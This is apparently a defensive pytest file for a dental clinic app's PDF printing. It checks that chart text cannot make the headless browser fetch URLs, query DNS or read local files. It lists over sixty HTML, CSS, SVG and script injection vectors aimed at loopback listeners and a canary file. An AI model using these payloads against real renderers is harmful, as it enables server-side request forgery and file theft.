"""What people typed reaches a print as words: nothing is fetched, asked of a name server or read from the machine, whatever it says.

Each vector is printed twice: in every free text that a print of a chart shows, as the application makes it; and raw, as if the
application had let it through, by a printer that was even left on this machine's network, so that its own guards must hold. A
browser without any guard shows beforehand that the listeners hear what there is to hear.
"""

import json
import os
import random
import shlex
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from flask import render_template

from clinic.chart.entry import Entry
from clinic.chart.kinds import Drawing, Group, Kind, Scope, Status
from clinic.chart.mouth import Mouth
from clinic.chart.paper import paper_of
from clinic.chart.teeth import PERMANENT
from clinic.chart.versions import body_of
from clinic.printing.client import Unavailable, print_pdf
from clinic.queries.standing import Standing
from tests.printers import Printer, printer, words_of
from tests.soak import daily_seed, share

pytestmark = [pytest.mark.server, pytest.mark.soak, pytest.mark.timeout(3600), pytest.mark.xdist_group("printing")]
SECRET = "CANARYOFAFILE"
# {h} HTTP on loopback, {n} the same by name, {p} its port, {t} a bare TCP port, {u} a UDP port, {d} a name nobody has, {f} a file.
VECTORS = """
<img src="http://{h}/img">
<img srcset="http://{h}/srcset 1x, http://{n}/srcset 2x">
<picture><source srcset="http://{h}/source"><img src="http://{h}/picture"></picture>
<style>@import url(http://{h}/import);</style>
<style>@import "http://{n}/import2";</style>
<link rel=stylesheet href="http://{h}/css">
<link rel="alternate stylesheet" href="http://{h}/alternate">
<style>@font-face{{font-family:q;src:url(http://{h}/font)}}*{{font-family:q}}</style>
<style>*{{background-image:url(http://{h}/background)}}</style>
<style>*{{list-style-image:url(http://{h}/list);display:list-item}}</style>
<style>p{{content:url(http://{h}/content)}}*::before{{content:url(http://{h}/before)}}</style>
<style>*{{cursor:url(http://{h}/cursor),auto;border-image:url(http://{h}/border) 1}}</style>
<style>*{{mask-image:url(http://{h}/mask);shape-outside:url(http://{h}/shape);filter:url(http://{h}/filter#a)}}</style>
<style>@page{{background:url(http://{h}/page);@top-left{{content:url(http://{h}/margin)}}}}</style>
<style>@media print{{body{{background:url(http://{h}/print)}}}}</style>
<style>*{{background:image-set(url(http://{h}/set) 1x)}}@namespace url(http://{h}/ns);</style>
<p style="background:url(http://{h}/inline)">x</p>
<iframe src="http://{h}/iframe"></iframe>
<iframe srcdoc="<img src=http://{h}/srcdoc>"></iframe>
<iframe srcdoc="<script>fetch('http://{h}/framed');new Image().src='http://{h}/framed2'</script>"></iframe>
<iframe src="file://{f}"></iframe>
<iframe src="view-source:file://{f}"></iframe>
<iframe src="FILE://{f}"></iframe>
<object data="http://{h}/object"></object>
<object data="file://{f}" type="text/plain"></object>
<embed src="http://{h}/embed">
<embed src="file://{f}" type="text/plain">
<video src="http://{h}/video" poster="http://{h}/poster" autoplay></video>
<audio src="http://{h}/audio" autoplay></audio>
<video><track kind=captions src="http://{h}/track" default><source src="http://{h}/vsource"></video>
<link rel=prefetch href="http://{h}/prefetch">
<link rel=preload as=image href="http://{h}/preload">
<link rel=modulepreload href="http://{h}/modulepreload">
<link rel=preconnect href="http://{t}">
<link rel=preconnect href="http://{d}">
<link rel=dns-prefetch href="//{d}">
<link rel=prerender href="http://{h}/prerender">
<link rel=icon href="http://{h}/icon"><link rel=manifest href="http://{h}/manifest"><link rel=search href="http://{h}/search">
<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["http://{h}/speculation"]}}]}}</script>
<script>navigator.sendBeacon('http://{h}/beacon')</script>
<script>new WebSocket('ws://{h}/ws')</script>
<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://{h}/worker')"])))</script>
<script>new EventSource('http://{h}/events')</script>
<script>fetch('http://{h}/fetch',{{mode:'no-cors'}});var x=new XMLHttpRequest();x.open('GET','http://{h}/xhr');x.send()</script>
<script>fetch('file://{f}').then(r=>r.text()).then(t=>document.body.append(t))</script>
<script>c=new RTCPeerConnection({{iceServers:[{{urls:'stun:{u}'}}]}});c.createDataChannel('x');c.setLocalDescription()</script>
<script src="http://{h}/script"></script>
<script type=module>import 'http://{h}/module'</script>
<script>location='http://{h}/location'</script>
<script>open('http://{h}/open')</script>
<meta http-equiv=refresh content="0;url=http://{h}/refresh">
<meta http-equiv=refresh content="0;url=file://{f}">
<meta http-equiv=refresh content="0;url=data:text/html,<img src=http://{h}/data>">
<base href="http://{h}/base/"><img src="relative">
<svg><image href="http://{h}/svgimage" width=9 height=9 /></svg>
<svg><use href="http://{h}/svguse#a"/></svg>
<svg><style>@import url(http://{h}/svgstyle);</style><rect width=9 height=9 fill="url(http://{h}/fill#a)"/></svg>
<svg><foreignObject><iframe src="http://{h}/foreign"></iframe></foreignObject></svg>
<svg><filter id=q><feImage href="http://{h}/feimage"/></filter><rect width=9 height=9 filter="url(#q)"/></svg>
<svg onload="fetch('http://{h}/svgload')"><animate attributeName=href values="http://{h}/animate"/></svg>
<math href="http://{h}/math"><mglyph src="http://{h}/mglyph"/></math>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{h}/insvg' width='9' height='9'/></svg>">
<iframe src="data:text/html,<img src=http://{h}/dataframe>"></iframe>
<object data="data:text/html,<iframe src='file://{f}'></iframe>"></object>
<img src="HTTP://{h}/upper">
<img src="//{h}/scheme">
<img src="http://2130706433:{p}/decimal">
<img src="http://0x7f000001:{p}/hex">
<img src="http://0:{p}/zero">
<img src="http://[::1]:{p}/six"><img src="http://[::ffff:127.0.0.1]:{p}/mapped">
<img src="http://{n}/redirect">
<img src="http://{d}/name">
<img src="http://{t}/tcp"><img src="ftp://{t}/ftp"><img src="https://{t}/tls">
<img src="file://{f}"><link rel=stylesheet href="file://{f}"><script src="file://{f}"></script>
<input type=image src="http://{h}/input"><button formaction="http://{h}/form"></button>
<table background="http://{h}/table"><tr><td background="http://{h}/cell"></table><body background="http://{h}/body">
<form action="http://{h}/submit" id=q><input name=a></form><script>q.submit()</script>
<a href="http://{h}/a" ping="http://{h}/ping">a</a><area href="http://{h}/area"><portal src="http://{h}/portal"></portal>
<img src=x onerror="fetch('http://{h}/onerror')"><details open ontoggle="fetch('http://{h}/toggle')">x</details>
<frameset><frame src="http://{h}/frame"></frameset>
<link rel=import href="http://{h}/htmlimport"><applet archive="http://{h}/applet"></applet><bgsound src="http://{h}/bgsound">
<?xml-stylesheet href="http://{h}/xml"?><!DOCTYPE x SYSTEM "http://{h}/dtd">
""".strip().splitlines()
# An unguarded page: with scripts, and fetching what it is told to.
UNGUARDED = """
async def bare(self):
    context = await self.browser.new_context(ignore_https_errors=True)
    return renderer.Sheet(await context.new_page())
async def pdf(self, html):
    import asyncio
    await self.page.set_content(html, wait_until='commit')
    await asyncio.sleep(0.7)
    try:
        return await self.page.pdf()
    finally:
        self.printed = 99
renderer.leave_network = lambda: True
renderer.ARGUMENTS = ()
renderer.Press.new_sheet = bare
renderer.Sheet.pdf = pdf
"""
ON_THE_NETWORK = "renderer.leave_network = lambda: True"


class Ears:
    """Listeners on loopback for HTTP, TCP, UDP and name servers' questions; `heard` is what reached them."""

    def __init__(self, folder: Path) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Web(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"HTTP {self.path}")
                self.send_response(200)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.web = ThreadingHTTPServer(("127.0.0.1", 0), Web)
        self.tcp, self.udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.dns = self._name_server()
        self.over = threading.Event()
        jobs = [self.web.serve_forever, self._accept, lambda: self._hear(self.udp, "UDP")]
        jobs += [lambda: self._hear(self.dns, "DNS")] if self.dns else []
        self.threads = [threading.Thread(target=job, daemon=True) for job in jobs]
        for thread in self.threads:
            thread.start()
        self.file = folder / "canary.txt"
        self.file.write_text(SECRET)
        self.resolver = folder / "resolv.conf"
        self.resolver.write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")

    def _name_server(self) -> socket.socket | None:
        """Port 53 of loopback, where nobody else has it and we may."""
        heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            heard.bind(("127.0.0.1", 53))
        except OSError:
            heard.close()
            return None
        return heard

    def _accept(self) -> None:
        self.tcp.settimeout(0.2)
        while not self.over.is_set():
            try:
                line, _address = self.tcp.accept()
            except TimeoutError:
                continue
            self.heard.append("TCP")
            line.close()

    def _hear(self, ear: socket.socket, name: str) -> None:
        ear.settimeout(0.2)
        while not self.over.is_set():
            try:
                said, _address = ear.recvfrom(2048)
            except TimeoutError:
                continue
            if name == "UDP" or b"canary" in said.lower():  # Chromium asks about other names of its own
                self.heard.append(f"{name} {said[:60]!r}")

    def put_in(self, vector: str, number: int) -> str:
        at = self.web.server_address[1]
        return vector.format(
            h=f"127.0.0.1:{at}", n=f"localhost:{at}", p=at, t=f"127.0.0.1:{self.tcp.getsockname()[1]}",
            u=f"127.0.0.1:{self.udp.getsockname()[1]}", d=f"v{number}.canary.test", f=self.file,
        )  # fmt: skip

    def stop(self) -> None:
        self.over.set()
        self.web.shutdown()
        for thread in self.threads:
            thread.join(5)
        for each in (self.web.socket, self.tcp, self.udp, self.dns):
            if each:
                each.close()


@pytest.fixture
def ears(tmp_path: Path) -> Iterator[Ears]:
    for folder in (tmp_path, *tmp_path.parents[:2]):
        folder.chmod(0o755)
    made = Ears(tmp_path)
    yield made
    made.stop()


@contextmanager
def asked_of(ears: Ears, app, before: str) -> Iterator[Printer]:
    """A printer whose questions to name servers we hear, if we may; changed as `before` says."""
    mount = f"mount --bind {shlex.quote(str(ears.resolver))} /etc/resolv.conf"
    may = ears.dns and not subprocess.run(["unshare", "-m", "sh", "-c", mount], capture_output=True).returncode
    within = ["unshare", "-m", "sh", "-c", f'{mount}; exec "$0" "$@"'] if may else []
    if not may:
        print("name servers: this account may not stand in for one, so questions to them are not heard")
    former = app.config["CHAIRSIDE"]
    with printer(before=before, within=within) as press:
        app.config["CHAIRSIDE"] = replace(former, printer_socket=str(press.path))
        try:
            yield press
        finally:
            app.config["CHAIRSIDE"] = former


def chosen() -> list[tuple[int, str]]:
    numbered = list(enumerate(VECTORS))
    return random.Random(daily_seed()).sample(numbered, share(len(numbered), 12))


def test_there_are_sixty_vectors():
    assert len(set(VECTORS)) >= 60


def test_the_listeners_hear_a_browser_without_guards(context, ears):
    """Without it the other tests would prove nothing."""
    tried = list(enumerate(VECTORS)) if share(1, 0) else list(enumerate(VECTORS))[::6]
    reached = 0
    with asked_of(ears, context, UNGUARDED):
        for number, vector in tried:
            before = len(ears.heard)
            try:
                print_pdf(f"<!doctype html><p>x</p>{ears.put_in(vector, number)}")
            except Unavailable:
                continue  # it went elsewhere
            finally:
                deadline = time.monotonic() + 2  # what is on its way when the print is done comes a little later
                while len(ears.heard) == before and time.monotonic() < deadline:
                    time.sleep(0.02)
                reached += len(ears.heard) > before
    print(f"without guards {reached} of {len(tried)} vectors reached a listener: {kinds_of(ears)}")
    assert reached >= len(tried) * 0.5


def kinds_of(ears: Ears) -> dict[str, int]:
    return {kind: sum(said.startswith(kind) for said in ears.heard) for kind in ("HTTP", "TCP", "UDP", "DNS")}


@pytest.mark.parametrize("before", [ON_THE_NETWORK, ""], ids=["left on the network", "as it is"])
def test_a_document_that_asks_for_it_raw_gets_nothing(context, ears, before):
    printed = 0
    with asked_of(ears, context, before):
        for number, vector in chosen():
            pdf = print_pdf(f"<!doctype html><meta charset=utf-8><p>shown</p>{ears.put_in(vector, number)}<p>end</p>")
            assert SECRET not in words_of(pdf), vector
            assert SECRET.encode() not in pdf, vector
            assert not ears.heard, (vector, ears.heard)
            printed += 1
        time.sleep(1.5)  # what comes late
    print(f"raw, {before or 'as it is'}: {printed} vectors, {len(ears.heard)} requests heard")
    assert not ears.heard


def test_every_free_text_of_a_chart_is_printed_as_words(context, ears):
    printed = 0
    with asked_of(ears, context, ON_THE_NETWORK), context.test_request_context("/"):
        for number, vector in chosen():
            payload = ears.put_in(vector, number)
            html, fields = document_with(payload)
            assert payload not in html, "it would be markup"
            pdf = print_pdf(html)
            assert pdf.startswith(b"%PDF-")
            words = words_of(pdf)
            assert SECRET not in words, vector
            assert "".join(payload.split())[:20] in "".join(words.split()), "the words themselves are shown"
            assert not ears.heard, (vector, ears.heard)
            printed += 1
        time.sleep(1.5)
    print(f"in {fields} free texts of a chart: {printed} vectors, {len(ears.heard)} requests heard")
    assert not ears.heard


def document_with(payload: str) -> tuple[str, int]:
    """The print of a version in which every text is the payload that is not one of the program's own words; and how many are."""
    own = Kind(
        "own-1", payload, (payload,), Scope.WHOLE, Group.OWN, (Status.FINDING,), Drawing("icon", letter=payload[:3]), own_id=1
    )  # fmt: skip
    said = {"performer": payload, "reason": payload, "entered_by": payload, "id": 1, "thread": 1}
    entries = (
        Entry("note", Status.FINDING, (("36", ""),), details={"note": payload}, **said),
        Entry("restoration", Status.COMPLETED, (("26", ""),), surfaces="O", details={"material": payload}, **said | {"thread": 2, "id": 2}),
        Entry("own-1", Status.FINDING, (("11", ""),), **said | {"thread": 3, "id": 3}),
    )  # fmt: skip
    mouth = Mouth(PERMANENT, entries, {**Mouth(()).kinds, "own-1": own})
    typed = ("clinic", "code", "patient", "sex", "why", "name", "time", "author", "author_role", "visit_reason")
    about = {
        "birth_date": "1990-01-01", "at": datetime(2026, 3, 3, tzinfo=UTC).isoformat(), "day": "2026-03-03", "number": 3,
        "stroke": 2, "numbering": "fdi", "legend": "neutral", "visit_id": 1, "visit_day": "2026-03-03",
    } | dict.fromkeys(typed, payload)  # fmt: skip
    body = body_of(mouth, about)
    assert json.loads(body)["about"]["patient"] == payload
    standing = Standing(True, f"Approved by {payload}, supervisor, {payload}.", f"Changed by {payload}.")
    html = render_template("chart_versions/print.html", paper=paper_of(body), standing=standing, code=payload)
    return html, len(typed) + 4 + 3 + 4


def test_the_clinics_own_environment_is_not_the_printers(context, ears):
    with printer() as press:
        looked: set[int] = set()
        deadline = time.monotonic() + 30
        while (
            len(looked) < 3 and time.monotonic() < deadline
        ):  # the browser comes after the printer, and its helpers go
            for pid in press.family():
                try:
                    names = Path(f"/proc/{pid}/environ").read_bytes()
                    open_files = [os.readlink(handle) for handle in Path(f"/proc/{pid}/fd").iterdir()]
                except (FileNotFoundError, ProcessLookupError):
                    continue
                assert not [name for name in (b"SECRET_KEY", b"DATABASE_URL", b"S3_", b"AUDIT_KEY") if name in names]
                assert not [name for name in open_files if "sqlite" in name]
                looked.add(pid)
        assert len(looked) >= 3, "the printer, its driver and a browser"
